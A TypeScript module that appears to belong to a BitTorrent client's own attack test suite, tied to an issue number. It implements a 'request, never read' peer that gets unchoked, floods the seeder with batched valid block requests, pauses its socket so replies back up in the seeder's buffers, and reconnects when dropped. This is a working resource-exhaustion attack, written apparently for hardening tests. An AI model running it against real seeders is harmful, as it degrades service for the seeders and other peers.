// Issue 12 item 1: a peer that gets unchoked, then sends valid requests as
// fast as the seeder takes them and never reads a byte of the replies.
import { encodeInterested, encodeRequest } from '../../core/wire/index.ts';
import { repeatedly, type Attack, type AttackTarget, type RawPeer } from './attack.ts';

const BLOCK = 16 * 1024;
/** Requests per write. */
const BATCH = 256;

/** Every block of the torrent in order, round and round. */
function* blocks(target: AttackTarget): Generator<Buffer> {
  for (;;) {
    for (let index = 0; index < target.pieceCount; index++) {
      const size = Math.min(target.pieceLength, target.length - index * target.pieceLength);
      for (let begin = 0; begin < size; begin += BLOCK) yield encodeRequest(index, begin, Math.min(BLOCK, size - begin));
    }
  }
}

async function attackOnce(target: AttackTarget, peer: RawPeer, stopped: () => boolean): Promise<void> {
  const unchoked = new Promise<void>((resolve) => peer.onMessage((m) => m.type === 'unchoke' && resolve()));
  peer.socket.write(encodeInterested());
  await Promise.race([unchoked, peer.closed]);
  // From now on nothing is read: what the seeder sends piles up in its socket.
  peer.socket.pause();
  const requests = blocks(target);
  while (!stopped()) {
    const batch: Buffer[] = [];
    for (let i = 0; i < BATCH; i++) batch.push(requests.next().value as Buffer);
    if (!peer.socket.write(Buffer.concat(batch))) {
      await Promise.race([new Promise((r) => peer.socket.once('drain', r)), peer.closed]);
    }
  }
}

export const nonReader: Attack = {
  name: 'request, never read',
  description: 'one unchoked peer sends valid requests back to back and never reads the replies (reconnects when dropped)',
  start: (target) => repeatedly(target, (peer, stopped) => attackOnce(target, peer, stopped)),
};
